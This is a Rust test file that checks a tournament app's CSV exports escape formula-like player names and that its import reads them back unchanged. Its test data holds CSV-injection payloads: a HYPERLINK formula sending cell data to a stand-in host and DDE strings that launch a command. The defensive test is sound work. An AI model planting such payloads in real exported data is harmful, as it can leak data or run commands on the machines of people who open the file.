//! Every CSV Kraal writes is safe to open in a spreadsheet: a name that
//! looks like a formula comes out as text, and the import reads Kraal's own
//! export back unchanged.

#![allow(clippy::unwrap_used)]

mod common;

use common::cli::kraal;
use common::TestApp;
use kraal::db::users::Role;

const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
];

/// Every field of every record of a CSV, read as a spreadsheet would.
fn cells(csv_text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

#[test]
fn names_that_look_like_formulas_are_exported_as_text_and_imported_back() {
    for app in TestApp::all() {
        let admin = app.user("admin", Role::Admin);
        let t = common::tournament(&app, &admin, "Formula Open");
        for (i, n) in HOSTILE.iter().enumerate() {
            common::player(&app, t.id, &admin, n, "@club", &(1800 - i).to_string());
        }
        let mut a = app.client_as(&admin);
        a.post(&format!("/t/{}/rounds", t.id), &[]);
        a.post(&format!("/t/{}/rounds/1/publish", t.id), &[]);
        let urls = [
            format!("/t/{}/players.csv", t.id),
            format!("/t/{}/standings.csv", t.id),
            format!("/t/{}/crosstable.csv", t.id),
            format!("/t/{}/rounds/1/pairings.csv", t.id),
        ];
        for url in &urls {
            let reply = a.get(url);
            assert_eq!(reply.status, 200, "{url}");
            for cell in cells(&reply.body) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{url}: the cell {cell:?} would run as a formula"
                );
            }
            for name in HOSTILE {
                assert!(
                    cells(&reply.body).iter().any(|c| c == &format!("'{name}")),
                    "{url} names {name} as text"
                );
            }
        }
        let (code, out, err) = kraal(&["export", "standings", &t.id.to_string()])
            .database_url(&app.database_url)
            .run();
        assert_eq!(code, 0, "{err}");
        assert_eq!(
            out,
            a.get(&format!("/t/{}/standings.csv", t.id)).body,
            "kraal export standings prints the same bytes"
        );

        // The export seeds a new tournament with the very same names.
        let copy = common::tournament(&app, &admin, "Formula Open, again");
        let csv_text = a.get(&urls[0]).body;
        let reply = a.post(&format!("/t/{}/import", copy.id), &[("csv", &csv_text)]);
        assert_eq!(reply.status, 200, "{}", reply.body);
        assert!(
            reply
                .body
                .contains(&format!("data-imported=\"{}\"", HOSTILE.len())),
            "the import says what it added: {}",
            reply.body
        );
        let mut names: Vec<String> = kraal::db::players::list(&mut app.conn(), copy.id)
            .unwrap()
            .into_iter()
            .map(|p| p.name)
            .collect();
        names.sort();
        let mut want: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
        want.sort();
        assert_eq!(names, want);
        let clubs = kraal::db::players::list(&mut app.conn(), copy.id).unwrap();
        assert!(clubs.iter().all(|p| p.club == "@club"));
    }
}
